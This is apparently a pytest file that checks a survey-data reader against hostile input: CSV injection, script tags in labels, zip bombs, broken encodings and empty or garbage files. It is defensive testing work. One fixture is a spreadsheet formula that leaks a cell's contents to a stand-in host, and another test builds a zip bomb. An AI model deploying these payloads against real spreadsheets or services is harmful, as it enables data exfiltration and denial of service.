"""Files made to hurt: each ends in a named refusal or a safe result, never in a crash, a formula or a script."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pandas as pd
import pytest
import xlsxwriter

from wxsat.errors import DataError, WxsatError
from wxsat.instrument.instrument import Instrument
from wxsat.responses.files import read_table
from wxsat.responses.inspection import inspect_file
from wxsat.responses.read import read_responses
from wxsat.responses.save import write_responses

HEADER = ["PU1", "PU2", "SH1", "SH2", "SH3", "SH4"]


def write(path: Path, rows: list[list[object]], encoding: str = "utf-8") -> Path:
    with path.open("w", encoding=encoding, newline="") as stream:
        csv.writer(stream).writerows(rows)
    return path


def code_of(path: Path, **options: str) -> str:
    with pytest.raises(WxsatError) as caught:
        read_table(path, **options)  # type: ignore[arg-type]
    return caught.value.code


def test_a_formula_in_an_answer_is_never_written_as_one(tmp_path: Path, instrument: Instrument) -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    path = write(tmp_path / "a.csv", [[*HEADER, "account", "weight"], [5, 5, 1, 2, 3, 4, evil, "+1+1"]])
    for suffix in (".csv", ".xlsx"):
        target = tmp_path / f"out{suffix}"
        write_responses(read_responses(path, instrument, account="account", keep=["weight"]), target)
        cells = read_table(target).frame.iloc[0].astype(str).tolist()
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
        if suffix == ".xlsx":
            assert "<f>" not in zipfile.ZipFile(target).read("xl/worksheets/sheet1.xml").decode()


def test_a_script_in_a_label_stays_text(tmp_path: Path) -> None:
    script = "<script>alert(1)</script>"
    path = write(tmp_path / "a.csv", [["PU1", script], *([[5, script]] * 6)])
    found = json.loads(json.dumps(inspect_file(path)))
    assert found["column_list"][1]["name"] == script
    assert found["column_list"][1]["categories"] == [{"value": script, "n": 6}]


def test_ten_thousand_columns(tmp_path: Path, instrument: Instrument) -> None:
    names = [*HEADER, *(f"x{j}" for j in range(10_000))]
    path = write(tmp_path / "wide.csv", [names, *([[5] * len(names)] * 3)])
    assert len(read_table(path).columns) == 10_006
    read = read_responses(path, instrument)
    assert read.frame.shape[1] == 6
    assert len(read.provenance["columns_unused"]) == 10_000


def test_a_zip_bomb_is_not_unpacked(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        book.add_worksheet().write(0, 0, "PU1")
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/worksheets/sheet9.xml", "w", force_zip64=True) as part,
    ):
        for _ in range(80):
            part.write(b"0" * 1_000_000)
    assert path.stat().st_size < 200_000
    assert code_of(path) == "RESP-073"


def test_broken_bytes_are_named_by_their_place(tmp_path: Path) -> None:
    path = tmp_path / "broken.csv"
    path.write_bytes("a,b\n1,同意\n".encode() + b"2,\xff\xfe\xff\n")
    with pytest.raises(DataError, match=r"RESP-006") as caught:
        read_table(path)
    assert "byte" in str(caught.value)
    assert "line 3" in str(caught.value)


def test_mixed_encodings(tmp_path: Path) -> None:
    path = tmp_path / "mixed.csv"
    path.write_bytes("评价,说明\n同意,甲\n".encode() + "不同意,乙乙乙\n".encode("gb18030"))
    assert code_of(path) == "RESP-006"


def test_big5_is_said_and_read_when_named(tmp_path: Path) -> None:
    text = "序號,對政府的滿意度,意見\n" + "1,非常同意,沒有意見\n2,不同意,希望網站說明清楚\n" * 5
    path = tmp_path / "big5.csv"
    path.write_bytes(text.encode("big5"))
    try:
        notes = " ".join(read_table(path).notes)
    except DataError as error:
        notes = str(error)
    assert "big5" in notes
    assert read_table(path, encoding="big5").columns[1] == "對政府的滿意度"


def test_simplified_text_in_gbk_is_not_taken_for_big5(tmp_path: Path) -> None:
    path = tmp_path / "gbk.csv"
    path.write_bytes(("序号,满意度\n" + "1,非常同意\n2,比较不同意\n3,没有用过这个功能\n" * 5).encode("gbk"))
    assert read_table(path).notes == ()


def test_duplicate_headers(tmp_path: Path) -> None:
    assert code_of(write(tmp_path / "a.csv", [["PU1", "PU1"], [1, 2]])) == "RESP-007"


def test_two_columns_of_one_wording_on_a_platform(tmp_path: Path, instrument: Instrument) -> None:
    head = [
        "序号",
        "提交答卷时间",
        "所用时间",
        "1、办事比以前快。",
        "2、办事比以前快。",
        "3、少跑了路。",
        "4、对我有用。",
    ]
    path = write(tmp_path / "a.csv", [head, [1, "2024/3/4 8:00:00", "85秒", "同意", "同意", "同意", "同意"]])
    with pytest.raises(DataError, match="RESP-021"):
        read_responses(path, instrument)


def test_dates_where_scales_were(tmp_path: Path, instrument: Instrument) -> None:
    """Excel turns "1-2" into 2 January: refused by name, never a number of days."""
    path = tmp_path / "dates.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, HEADER)
        sheet.write_row(1, 0, [5, 5, 1, 2, 3])
        sheet.write_datetime(1, 5, pd.Timestamp("2024-01-02").to_pydatetime(), book.add_format({"num_format": "d-m"}))
    with pytest.raises(DataError, match="RESP-038"):
        read_responses(path, instrument)


def test_full_width_digits_are_digits(tmp_path: Path, instrument: Instrument) -> None:
    path = write(tmp_path / "a.csv", [HEADER, ["５", "４", "１", "２", "３", "７"]])
    assert read_responses(path, instrument).frame.iloc[0].tolist() == [5, 4, 1, 2, 3, 7]


@pytest.mark.parametrize("content", [b"", b"\xef\xbb\xbf", b"\n\n\n", b" \r\n \r\n", b"\0\0\0\0"])
@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".sav", ".json", ".dta", ".parquet"])
def test_empty_files(tmp_path: Path, content: bytes, suffix: str) -> None:
    path = tmp_path / f"empty{suffix}"
    path.write_bytes(content)
    assert code_of(path) == "RESP-003"


def test_a_byte_order_mark_is_no_part_of_a_name(tmp_path: Path) -> None:
    path = write(tmp_path / "a.csv", [["PU1", "b"], [1, 2]], encoding="utf-8-sig")
    assert read_table(path).columns == ("PU1", "b")


def test_zero_bytes_in_text(tmp_path: Path) -> None:
    path = tmp_path / "nul.csv"
    path.write_bytes(b"PU1,b\n" + b"1,2\n" * 30 + b"3,\x004\n")
    assert code_of(path) == "RESP-008"


@pytest.mark.parametrize("suffix", [".sav", ".por", ".dta", ".sas7bdat", ".xpt", ".parquet", ".xlsx", ".xls", ".json"])
def test_noise_under_every_name(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"noise{suffix}"
    path.write_bytes(bytes((7 * i * i + 13 * i) % 251 + 1 for i in range(5000)))
    assert code_of(path).startswith("RESP-")


def test_json_that_is_none(tmp_path: Path) -> None:
    path = tmp_path / "a.json"
    for text, code in (("[1, 2]", "RESP-068"), ("{", "RESP-068"), ("[" * 100_000, "RESP-068"), ("[]", "RESP-004")):
        path.write_text(text, encoding="utf-8")
        assert code_of(path) == code


def test_a_cut_archive_is_no_workbook(tmp_path: Path) -> None:
    whole = io.BytesIO()
    with xlsxwriter.Workbook(whole) as book:
        book.add_worksheet().write_row(0, 0, HEADER)
    path = tmp_path / "cut.xlsx"
    path.write_bytes(whole.getvalue()[:2000])
    assert code_of(path) == "RESP-012"
